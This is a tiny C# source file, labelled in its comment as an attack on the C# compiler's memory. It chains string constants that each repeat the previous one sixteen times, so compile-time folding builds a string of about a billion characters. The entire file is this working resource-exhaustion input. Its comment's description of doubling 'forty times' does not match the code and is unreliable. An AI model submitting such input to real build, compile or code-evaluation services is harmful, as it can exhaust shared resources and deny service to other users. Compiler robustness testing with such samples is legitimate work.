// Attacks: the memory of the C# compiler: constants that double forty times.
class Program {
    const string C = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    const string D = C + C + C + C + C + C + C + C + C + C + C + C + C + C + C + C;
    const string E = D + D + D + D + D + D + D + D + D + D + D + D + D + D + D + D;
    const string F = E + E + E + E + E + E + E + E + E + E + E + E + E + E + E + E;
    const string G = F + F + F + F + F + F + F + F + F + F + F + F + F + F + F + F;
    const string H = G + G + G + G + G + G + G + G + G + G + G + G + G + G + G + G;
    const string I = H + H + H + H + H + H + H + H + H + H + H + H + H + H + H + H;
    static void Main() { System.Console.WriteLine(I + "x"); }
}
